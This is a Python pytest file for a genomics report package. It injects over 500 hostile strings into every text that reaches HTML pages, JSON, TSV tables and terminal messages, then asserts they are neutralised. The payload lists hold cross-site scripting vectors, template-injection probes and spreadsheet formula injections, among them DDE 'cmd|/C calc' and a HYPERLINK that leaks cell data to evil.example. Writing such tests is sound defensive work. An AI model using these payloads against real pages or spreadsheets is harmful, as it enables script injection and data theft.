"""Five hundred hostile texts through every string that reaches a page, JSON, a table or a message."""

from __future__ import annotations

import importlib.util
import io
import itertools
import json
import sys
from collections import Counter
from collections.abc import Iterator
from dataclasses import fields, replace
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from genomix.errors import FormatError
from genomix.io.score_tables import write_frame
from genomix.io.spreadsheet import spreadsheet_safe
from genomix.report.document import render_report
from genomix.report.examples import render_examples
from genomix.report.inputs import StudyFacts
from tests.contracts import sample_report as sample


def _reader() -> Any:
    spec = importlib.util.spec_from_file_location("page_reader", Path(__file__).with_name("page_reader.py"))
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules["page_reader"] = module
    spec.loader.exec_module(module)
    return module


reader = _reader()
_BREAK = ("", '">', "'>", "</td>", "</title>", "</style>", "-->", "]]>", "*/", "`", "\u2028", '"/>', "</script>")
_LIVE = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    "<a href='javascript:alert({n})'>x</a>",
    "<iframe srcdoc='<script>alert({n})</script>'>",
    "<body onload=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<math><mtext><style><img src=x onerror=alert({n})>",
    "<meta http-equiv=refresh content=0>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<object data=data:text/html,{n}>",
    "<form action=//evil.example><button>{n}",
    "<style>*{{display:none}}</style>",
    "' onmouseover='alert({n})",
    '" style="x:{n}',
    "{{{{ {n}*7 }}}}",
    "${{{n}+1}}",
    "{{% for x in y %}}{n}",
    "<%= {n} %>",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;script&#62;{n}",
    "\x00<b>{n}</b>",
    "<ScRiPt >alert({n})</sCrIpT>",
    "<!--{n}",
    "<![CDATA[{n}]]>",
    "\u202e<u>{n}</u>",
)
_FORMULAS = (
    "=1+{n}",
    "+{n}+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A{n}",
    "@SUM(1+{n})",
    '\t=HYPERLINK("//evil.example/{n}")',
    "\r=1+{n}",
    '=HYPERLINK("http://evil.example?leak="&A1,"{n}")',
    "=cmd|'/c calc'!A{n}",
    "-1-{n}",
    "+A{n}",
    "@A{n}",
)
PAYLOADS = [
    *(b + live.format(n=i) for i, (b, live) in enumerate(itertools.product(_BREAK, _LIVE))),
    *(text.format(n=i) for i, text in enumerate(_FORMULAS * 13)),
]


def test_there_are_five_hundred_different_ones() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 500


class Poison:
    """Gives every text a payload of its own; the objective and the codes of the software's own tables stay."""

    FIXED = frozenset(("part", "unit", "model", "metric", "curve", "status", "level", "rung", "source", "step_unit"))
    FIXED |= {"target", "family", "group", "name", "feature"}

    def __init__(self, start: int) -> None:
        self._next: Iterator[str] = itertools.cycle(PAYLOADS[start:] + PAYLOADS[:start])
        self.used: set[str] = set()

    def text(self) -> str:
        """Return the next payload."""
        payload = next(self._next)
        self.used.add(payload)
        return payload

    def of(self, value: Any) -> Any:
        """Return a value with a payload at the end of every text in it."""
        if isinstance(value, str):
            return value + self.text()
        if isinstance(value, dict):
            return {k + self.text(): self.of(v) for k, v in value.items()}
        if isinstance(value, list | tuple):
            return type(value)(self.of(v) for v in value)
        return value

    def frame(self, frame: pl.DataFrame) -> pl.DataFrame:
        """Return a table with another payload in every text that a study's files could hold."""
        texts = [n for n, t in frame.schema.items() if t == pl.String and n not in self.FIXED]
        return frame.with_columns(
            pl.Series(n, [None if v is None else v + self.text() for v in frame[n].to_list()], dtype=pl.String)
            for n in texts
        )


def poisoned(poison: Poison) -> Any:
    """Return the sample's inputs with a payload in every text."""
    full = sample.full_inputs()
    facts = {f.name: getattr(full.facts, f.name) for f in fields(full.facts)}
    facts = {k: v if k == "objective" else poison.of(v) for k, v in facts.items()}
    tables = ("flow", "columns", "metrics", "ladder", "importance", "certificate")
    frames = {n: poison.frame(getattr(full, n)) for n in tables}
    renamed = {n: n + poison.text() for n in full.columns["name"].to_list()}
    told = {"quality": poison.of(full.quality), "provenance": poison.of(full.provenance)}
    inputs = replace(full, facts=StudyFacts(**facts), **told, **frames)
    card = full.score_card
    assert card is not None
    return replace(
        inputs,
        columns=inputs.columns.with_columns(pl.col("name").replace(renamed)),
        importance=inputs.importance.with_columns(pl.col("name").replace(renamed)),
        beeswarm=inputs.beeswarm.with_columns(pl.col("feature").replace(renamed)),
        split={**full.split, poison.text(): poison.text()},
        score_card=replace(card, rows=tuple(replace(r, sentence=poison.of(r.sentence)) for r in card.rows)),
    )


def test_no_payload_becomes_an_element_an_attribute_or_an_address() -> None:
    clean = reader.read_page(render_report(sample.full_inputs()).html)
    kinds = {(e.tag, a) for e in clean.elements for a in e.attributes} | {("a", "href")}
    used: set[str] = set()
    for start in (0, 170, 340):
        poison = Poison(start)
        report = render_report(poisoned(poison))
        used |= poison.used
        page = reader.read_page(report.html)
        assert page.unclosed == []
        assert {(e.tag, a) for e in page.elements for a in e.attributes} <= kinds
        tags = Counter(e.tag for e in page.elements)
        fixed = ("script", "style", "title", "meta", "img", "svg", "form", "input", "link", "iframe", "object", "base")
        assert {t: tags[t] for t in fixed} == {t: Counter(e.tag for e in clean.elements)[t] for t in fixed}
        for element in page.elements:
            for name, value in element.attributes.items():
                assert not name.startswith("on")
                if name in ("href", "src"):
                    assert value.startswith(("#", "data:image/svg+xml;base64,"))
        for svg in reader.drawings(page):
            assert b"alert(" not in svg
            assert b"<script" not in svg.lower()
        text = json.dumps(report.json)
        assert json.loads(text) == report.json
    assert used >= set(PAYLOADS), "every payload reached a page"


def _hostile(bar: Any, poison: Poison) -> dict[str, Any]:
    """Return a bar whose words, not whose keys, are poisoned."""
    records = [{k: poison.of(v) if isinstance(v, str) else v for k, v in r.items()} for r in bar.get("records", ())]
    return {k: poison.of(v) if isinstance(v, str) else v for k, v in bar.items()} | {"records": records}


def test_no_payload_leaves_an_example_person() -> None:
    people = sample.example_subjects()
    clean = Counter(e.tag for e in reader.read_page(render_examples(people, sample.full_inputs().facts)).elements)
    poison = Poison(0)
    hostile = [replace(p, bars=tuple(_hostile(bar, poison) for bar in p.bars)) for p in people]
    page = reader.read_page(render_examples(hostile, sample.full_inputs().facts))
    tags = Counter(e.tag for e in page.elements)
    for tag in ("script", "img", "style", "iframe", "form", "link", "object"):
        assert tags[tag] == clean[tag]
    assert not [n for e in page.elements for n in e.attributes if n.startswith("on")]


def test_no_payload_is_a_formula_in_a_table(tmp_path: Path) -> None:
    usable = [p.replace("\x00", "") for p in PAYLOADS]
    frame = pl.DataFrame({"sample_id": usable, "score": [-1.5] * len(usable), "=HEAD()": ["-0.5"] * len(usable)})
    write_frame(tmp_path / "t.tsv", frame)
    text = (tmp_path / "t.tsv").read_bytes().decode()
    assert text.startswith("sample_id\tscore\t'=HEAD()\n")
    again = pl.read_csv(io.StringIO(text), separator="\t", infer_schema=False)
    assert again.height == len(usable)
    for before, after in zip(usable, again["sample_id"].to_list(), strict=True):
        if before[0] in "=+-@\t\r":
            assert after == "'" + before
        else:
            assert after == before
    assert set(again["score"]) == {"-1.5"}
    assert set(again["'=HEAD()"]) == {"-0.5"}
    write_frame(tmp_path / "t.parquet", frame)
    assert pl.read_parquet(tmp_path / "t.parquet").equals(frame)


@pytest.mark.parametrize("value", ["-", "+", "1e-5", "-3", "+4.5", "-inf", "abc", "", "a=b", "*", "<DEL>"])
def test_what_is_no_formula_stays(value: str) -> None:
    assert spreadsheet_safe(pl.DataFrame({"x": [value]}))["x"].item() == value


def test_a_message_with_a_payload_is_one_line_of_text() -> None:
    """Control characters of a name must not move the cursor, colour the terminal or forge a line of a log."""
    from genomix_cli.console import Settings, describe_error

    for payload in [*PAYLOADS, "\x1b[2J\x1b]0;title\x07", "a\nerror: forged", "a\rb"]:
        said = describe_error(FormatError(f"the name {payload} is wrong", where=f"/data/{payload}.vcf"), Settings())
        assert not any(ord(c) < 32 or ord(c) in (0x7F, 0x2028, 0x202E) for c in said)
